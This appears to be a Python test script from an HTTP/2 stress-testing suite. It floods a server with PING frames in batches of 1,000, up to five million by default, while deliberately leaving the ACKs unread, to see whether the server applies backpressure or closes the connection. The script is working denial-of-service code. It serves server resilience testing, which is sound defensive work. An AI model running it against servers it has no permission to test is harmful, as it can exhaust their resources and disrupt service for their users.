#!/usr/bin/env python3
"""PING flood: PING frames as fast as possible while NOT reading the PING ACKs the
server owes (a small receive buffer). Bounded by --count frames and --seconds; then
reads for 1 s. A resilient server stops reading (backpressure) or closes."""
import time

import h2attack as a


def attack(args):
    c = a.Conn(args, rcvbuf=4096)
    a.wait_settings(c, 0.5)
    deadline = a.until_deadline(args)
    batch = b"".join(a.ping(i.to_bytes(8, "big")) for i in range(1000))
    sent = 0
    while not c.closed and sent < args.count and time.monotonic() < deadline:
        if not c.send(batch, read=False, timeout=min(2.0, max(0.1, deadline - time.monotonic()))):
            break
        sent += 1000
    c.pump(1.0)
    c.close()
    return {"sent": "%d PINGs unread; %d ACKs read after" % (sent, c.ping_acks),
            "frames": sent, "acks": c.ping_acks, "reaction": c.reaction()}


if __name__ == "__main__":
    a.run("ping_flood", __doc__, attack, count_default=5000000)
